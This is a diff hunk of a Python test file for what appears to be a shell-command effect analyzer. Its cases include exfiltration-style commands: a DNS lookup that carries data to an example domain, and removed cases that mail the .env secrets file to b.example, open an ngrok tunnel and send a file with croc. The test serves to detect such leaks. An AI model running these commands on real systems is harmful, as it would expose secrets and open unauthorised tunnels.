@@ -284,11 +284,8 @@ def test_other_machines(line, stdin, expected):
         ),
         (f"nslookup {HOLE}.e.example", [Sends(f"{HOLE}.e.example", "data"), Connects(f"{HOLE}.e.example")]),
         ("ping -c 1 localhost", []),
-        ("mail -s hi -a .env a@b.example", [Reads(f"{W}/.env"), Sends("b.example", "content")]),
         ("mutt", []),
-        ("ngrok http 3000", [Alters("ngrok http")]),
         ("cloudflared --version", []),
-        ("croc send a.txt", [Reads(f"{W}/a.txt"), Sends("croc", "content")]),
     ],
 )
 def test_small_programs(line, expected):
